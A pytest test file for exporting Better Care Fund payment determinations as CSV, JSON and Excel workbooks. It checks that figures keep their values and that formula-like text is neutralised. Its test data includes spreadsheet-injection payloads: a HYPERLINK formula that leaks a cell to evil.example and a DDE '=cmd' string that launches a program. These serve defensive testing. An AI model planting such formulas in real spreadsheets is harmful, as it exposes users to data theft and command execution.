"""Laying out determinations as CSV, JSON and XLSX: the figures unchanged, text made safe for Excel."""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest

from sheets.batch import BoardResult
from sheets.payloads import BoardRequest
from sheets.safety import neutralise
from sheets.writing import (
    ILLEGAL_CHARACTERS,
    LINE_COLUMNS,
    RESULT_COLUMNS,
    TOTAL_COLUMNS,
    results_csv,
    results_json,
    results_xlsx,
)

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def determination(**overrides):
    """A determination in api.md's response shape (figures chosen by hand, not by the code)."""
    d = {
        "hwb_code": "E06000001", "rule_set": "bcf-2015-16", "p4p_pool": Decimal("1000000.00"),
        "plan_assured": True,
        "conditions": [
            {"condition": "plans_jointly_agreed", "status": "met", "access": True, "tranche": None,
             "reasons": []},
            {"condition": "seven_day_services", "status": "not_met", "access": False,
             "tranche": "april-2015/conditions", "reasons": ["-confirmed is false", "explanation is empty"]},
        ],
        "metrics": [
            {"metric": "local", "period": "april-2015", "tranche": "april-2015/metrics", "local_metric": None,
             "name": HOSTILE, "polarity": "lower", "unit": "per 100,000", "status": "determined",
             "baseline": {"value": 478.39506172839504, "ci_lower": 461.8, "ci_upper": 495.5}, "plan": 450.0,
             "actual": {"value": 485.5, "ci_lower": 468.9, "ci_upper": 502.6},
             "achievement": -0.25, "payable_fraction": 0.12345678, "significance": "assessed",
             "minimum_significant_ambition": 461.8, "ambition_significant": True, "change_p_value": 0.0312812,
             "change_significant": False, "trend_projection": None, "ambition_beyond_trend": None},
        ],
        "tranches": [
            {"tranche": "april-2015/conditions", "available": Decimal("250000.00"),
             "released": Decimal("187500.00"), "held_back": Decimal("62500.00"),
             "held_back_use": "pending_conditions", "recovery_plan_required": False,
             "lines": [{"item": "seven_day_services", "status": "not_met", "available": Decimal("62500.00"),
                        "released": Decimal("0.00"), "held_back": Decimal("62500.00"),
                        "payable_fraction": 0.0,
                        "explanation": "seven_day_services: not met; nothing released"}]},
            {"tranche": "april-2015/metrics", "available": 250000.0, "released": 166666.67,
             "held_back": 83333.33, "held_back_use": "recovery_plan", "recovery_plan_required": True,
             "lines": [{"item": "local", "status": "determined", "available": 83333.34, "released": 0.0,
                        "held_back": 83333.34, "payable_fraction": 0.0,
                        "explanation": "local: achievement -25%; nothing released"}]},
            {"tranche": "october-2015/metrics", "available": Decimal("500000.00"), "released": None,
             "held_back": None, "held_back_use": None, "recovery_plan_required": None, "lines": []},
        ],
        "totals": {"available": Decimal("1000000.00"), "released": None, "held_back": None},
        "recovery_plan_required": True,
        "warnings": [{"code": "ambition_not_significant", "metric": "local", "period": "april-2015",
                      "message": "@SUM(1+1) is not significant"}],
    }
    d.update(overrides)
    return d


def result(**overrides):
    request = BoardRequest("E06000001", "Hartlepool", {"hwb_code": "E06000001", "metrics": [
        {"metric": "local", "definition": {"name": HOSTILE}, "periods": {}}]},
        region="North East", nhs_region="North of England")
    return BoardResult(request, determination(**overrides))


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-confirmed", "'-confirmed"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (-5, -5), (-0.25, -0.25),
    (Decimal("-1.50"), Decimal("-1.50")), (None, None), (True, True),
])
def test_neutralise_touches_only_formula_like_text(value, expected):
    assert neutralise(value) == expected


def test_results_csv_one_row_per_board_and_tranche():
    text = results_csv([result()])
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == RESULT_COLUMNS
    assert rows[1:] == [
        ["E06000001", "Hartlepool", "april-2015/conditions", "250000.00", "187500.00", "62500.00",
         "pending_conditions", "FALSE", "TRUE"],
        ["E06000001", "Hartlepool", "april-2015/metrics", "250000.00", "166666.67", "83333.33",
         "recovery_plan", "TRUE", "TRUE"],
        # pending: amounts not known yet are empty cells, not zeros
        ["E06000001", "Hartlepool", "october-2015/metrics", "500000.00", "", "", "", "", "TRUE"],
    ]
    assert text.endswith("\r\n")


def test_results_csv_neutralises_text_cells():
    d = result()
    d.request.hwb_name = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(results_csv([d]))))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"


def test_results_json_is_the_list_of_determinations():
    body = json.loads(results_json([result(), result(hwb_code="E06000002")]))
    assert [d["hwb_code"] for d in body] == ["E06000001", "E06000002"]
    assert body[0]["tranches"][0]["available"] == 250000.0  # Decimal written as a JSON number
    assert body[0]["metrics"][0]["name"] == HOSTILE  # JSON is data, not a spreadsheet: unchanged


def cells_by_header(sheet, row: int) -> dict:
    return {c.value: cell for c, cell in zip(sheet[1], sheet[row], strict=True)}


def test_xlsx_sheets_cells_types_and_formats():
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([result()])))
    assert book.sheetnames == ["Totals", "Tranches", "Lines", "Metrics", "Conditions", "Warnings"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "C2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["B"].width == 28
        # headers a person reads, the board's regions beside its name, and a filter on every column
        assert [c.value for c in sheet[1]][:4] == ["HWB code", "Health and Wellbeing Board", "Region",
                                                   "NHS region"]
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"

    tranches = book["Tranches"]
    assert [c.value for c in tranches[1]] == [
        "HWB code", "Health and Wellbeing Board", "Region", "NHS region", "Tranche", "Available", "Released",
        "Held back", "Use of the money held back", "Recovery plan required", "Plan assured"]
    assert tranches["C2"].value == "North East" and tranches["D2"].value == "North of England"
    available, released = tranches["F2"], tranches["G3"]
    assert available.value == 250000 and available.data_type == "n"
    assert released.value == pytest.approx(166666.67) and released.data_type == "n"
    assert "£" in available.number_format and "0.00" in available.number_format
    assert tranches["J3"].value is True and tranches["K2"].value is True  # booleans stay booleans
    assert tranches["G4"].value is None  # pending: empty

    row = cells_by_header(book["Metrics"], 2)
    assert row["Name"].value == "'" + HOSTILE and row["Name"].data_type == "s"  # neutralised, not a formula
    # a negative number stays a number; achievement and payable are shown as percentages
    assert row["Achievement"].value == -0.25 and row["Achievement"].data_type == "n"
    assert row["Achievement"].number_format == "0.0%" and row["Payable"].number_format == "0.0%"
    assert row["Baseline"].value == 478.4 and row["Change p-value"].value == 0.03128  # 4 significant figures
    assert row["Payable"].value == 0.123457  # 6 decimal places (rules §5)
    assert row["Baseline, lower 95% limit"].value == pytest.approx(461.8)
    assert row["Ambition significant"].value is True and row["Change significant"].value is False
    assert row["Available"].value == pytest.approx(83333.34) and "£" in row["Available"].number_format
    assert row["Released"].value == 0 and row["Held back"].value == pytest.approx(83333.34)
    assert row["Trend projection"].value is None

    seven = {name: cell.value for name, cell in cells_by_header(book["Conditions"], 3).items()}
    assert seven["Condition"] == "seven_day_services" and seven["Status"] == "not_met"
    assert seven["Reasons"] == "'-confirmed is false; explanation is empty"
    assert seven["Held back"] == 62500

    warnings = book["Warnings"]
    assert warnings["H2"].value == "'@SUM(1+1) is not significant"


def test_xlsx_lines_and_totals():
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([result()])))
    lines = book["Lines"]
    assert lines.max_row == 3  # one line in each assessed tranche of the determination above
    first = {name: cell.value for name, cell in cells_by_header(lines, 2).items()}
    assert (first["Tranche"], first["Line for a"], first["Metric or condition"]) == (
        "april-2015/conditions", "condition", "seven_day_services")
    assert (first["Available"], first["Released"], first["Held back"]) == (62500, 0, 62500)
    assert first["Explanation"] == "seven_day_services: not met; nothing released"
    assert cells_by_header(lines, 2)["Payable"].number_format == "0.0%"
    totals = {name: cell.value for name, cell in cells_by_header(book["Totals"], 2).items()}
    assert (totals["Performance pool"], totals["Available"], totals["Released"]) == (1000000, 1000000, None)
    assert (totals["Plan assured"], totals["Recovery plan required"]) == (True, True)


def test_results_csv_lines_and_totals_tables():
    lines = list(csv.reader(io.StringIO(results_csv([result()], "lines"))))
    assert tuple(lines[0]) == LINE_COLUMNS
    assert lines[1:] == [
        ["E06000001", "Hartlepool", "april-2015/conditions", "condition", "seven_day_services", "not_met",
         "62500.00", "0.00", "62500.00", "0.0", "seven_day_services: not met; nothing released"],
        ["E06000001", "Hartlepool", "april-2015/metrics", "metric", "local", "determined", "83333.34", "0.00",
         "83333.34", "0.0", "local: achievement -25%; nothing released"],
    ]
    totals = list(csv.reader(io.StringIO(results_csv([result()], "totals"))))
    assert tuple(totals[0]) == TOTAL_COLUMNS
    assert totals[1:] == [["E06000001", "Hartlepool", "1000000.00", "1000000.00", "", "", "TRUE", "TRUE"]]


def test_results_csv_refuses_an_unknown_table():
    with pytest.raises(KeyError):
        results_csv([result()], "tranche")


def test_xlsx_drops_characters_excel_cannot_hold():
    d = result(warnings=[{"code": "x", "metric": None, "period": None, "message": "bell\x07here"}])
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
    assert book["Warnings"]["H2"].value == "bellhere"


def test_printable_text_has_no_character_a_workbook_cannot_hold():
    """The XLSX writer skips the substitution for text that ``str.isprintable()`` accepts."""
    every = "".join(map(chr, range(0x110000)))
    dropped = ILLEGAL_CHARACTERS.findall(every)
    assert len(dropped) == 29 and not any(c.isprintable() for c in dropped)


def test_xlsx_text_stays_text_and_money_keeps_its_pennies():
    """Text that looks like a number or a link is written as text; money to the penny."""
    d = result(warnings=[{"code": "0123", "metric": "1e5", "period": "http://example.org/x",
                          "message": "plain text"}])
    d.determination["tranches"][1]["released"] = Decimal("12345678.91")
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
    warning = book["Warnings"]
    assert [warning[f"{c}2"].value for c in "EFG"] == ["0123", "1e5", "http://example.org/x"]
    assert all(warning[f"{c}2"].data_type == "s" for c in "EFG")
    assert not warning["G2"].hyperlink
    released = book["Tranches"]["G3"]
    assert released.value == 12345678.91 and released.data_type == "n"  # the nearest double, not rounded
    assert "£" in released.number_format
